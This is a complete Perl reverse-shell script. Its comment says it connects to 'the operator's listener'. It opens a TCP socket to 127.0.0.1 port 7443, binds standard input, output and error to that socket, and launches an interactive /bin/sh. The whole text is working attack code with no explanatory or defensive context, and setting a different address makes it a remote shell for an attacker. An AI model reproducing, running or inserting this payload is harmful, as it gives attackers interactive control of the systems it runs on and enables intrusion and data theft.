#!/usr/bin/perl
# reverse shell to the operator's listener
use Socket;
my ($h, $p) = ("127.0.0.1", 7443);
socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp")) or exit 1;
connect(S, sockaddr_in($p, inet_aton($h))) or exit 1;
open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S");
exec("/bin/sh -i");
